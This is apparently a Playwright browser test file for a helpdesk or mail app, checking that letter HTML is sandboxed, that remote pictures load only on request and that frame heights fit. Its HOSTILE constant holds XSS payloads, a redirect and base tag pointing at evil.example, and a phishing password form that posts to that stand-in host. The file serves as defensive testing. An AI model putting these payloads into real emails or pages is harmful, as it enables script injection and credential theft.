"""A letter's HTML in its sandboxed frame: shown as it was meant, and harmless."""

import pytest
from playwright.sync_api import Page, Request, expect

from tests import cast
from tests.browser.conftest import SignIn
from tests.browser.scene import Scene, set_scene

pytestmark = [pytest.mark.real_server("chromium"), pytest.mark.django_db(transaction=True)]

HOSTILE = """
<script>parent.document.title = "hacked"</script><img src=x onerror="parent.document.title='hacked'">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>Войти</button></form>
<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">Накрывает всё</div>
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style>
<iframe src="https://evil.example/"></iframe><svg onload="parent.document.title='hacked'"></svg>
<a href="javascript:parent.document.title='hacked'">сюда</a> <a href="https://good.example/">туда</a>
<video src="https://evil.example/v.mp4" autoplay></video><p id="end">Конец письма</p>
"""


@pytest.fixture
def scene(transactional_db: None) -> Scene:
    return set_scene()


def strangers(page: Page) -> list[str]:
    """What the page asks of other servers from now on; those requests end nowhere."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if ".example" in request.url:
            asked.append(request.url)

    page.on("request", note)
    page.context.route("**/*.example/**", lambda route: route.abort())
    return asked


def test_it_shows_the_whole_letter_with_its_own_pictures_and_folds_its_quotes(sign_in: SignIn, scene: Scene) -> None:
    page = sign_in(scene.olga, may_complain=True)  # of Playwright's own scripts, which the sandbox stops as well
    page.goto(scene.reply.get_absolute_url())
    letter = page.frame_locator(".paper")

    expect(letter.get_by_alt_text("Снимок экрана")).to_have_js_property("naturalWidth", 320)
    expect(letter.get_by_text("Пришлите, пожалуйста")).to_be_hidden()
    folded = fitted(page)
    letter.get_by_label("Show quoted text").check()
    expect(letter.get_by_text("Пришлите, пожалуйста")).to_be_visible()
    assert fitted(page) > folded


def fitted(page: Page) -> float:
    """The frame's height, once it holds the letter without a scroll bar."""
    page.wait_for_function(
        """() => { const frame = document.querySelector(".paper");
        return frame.clientHeight >= frame.contentDocument.body.scrollHeight && frame.clientHeight > 100; }"""
    )
    box = page.locator(".paper").bounding_box()
    assert box is not None
    return box["height"]


def test_a_letter_keeps_its_height_when_a_note_is_added_below_it(sign_in: SignIn, scene: Scene) -> None:
    page = sign_in(scene.olga, may_complain=True)
    page.goto(scene.ticket.get_absolute_url())
    before = fitted(page)
    page.evaluate("document.querySelector('.paper').dataset.old = ''")

    page.get_by_role("textbox", name="Note").fill("Позвонил, всё работает.")
    page.keyboard.press("Control+Enter")

    expect(page.locator(".paper:not([data-old])")).to_have_css("height", f"{before:g}px")
    expect(page.get_by_text("Позвонил, всё работает.")).to_be_in_viewport()


def test_it_fetches_pictures_from_elsewhere_only_when_asked(sign_in: SignIn, scene: Scene) -> None:
    page = sign_in(scene.olga, may_complain=True)
    asked = strangers(page)
    page.goto(scene.reply.get_absolute_url())
    page.wait_for_load_state("networkidle")
    assert asked == []

    with page.expect_request("https://tracker.example/**"):
        page.get_by_role("link", name="Load pictures from the Internet").click()

    assert asked == ["https://tracker.example/pixel.gif"]
    expect(page.get_by_role("link", name="Load pictures from the Internet")).to_have_count(0)


def test_it_disarms_a_hostile_letter(sign_in: SignIn, scene: Scene) -> None:
    page = sign_in(scene.olga)
    asked = strangers(page)
    activity = cast.make_activity(html=HOSTILE, text="Конец письма")
    page.goto(activity.get_absolute_url())
    page.wait_for_load_state("networkidle")
    letter = page.frame_locator(".paper")

    expect(letter.get_by_text("Конец письма")).to_be_visible()
    expect(letter.locator("form, input, iframe, svg, video, base, script")).to_have_count(1)  # our own checkbox
    assert "hacked" not in page.title()
    assert asked == []
    assert letter.get_by_text("сюда").get_attribute("href") is None
    assert letter.get_by_text("туда").get_attribute("target") == "_blank"
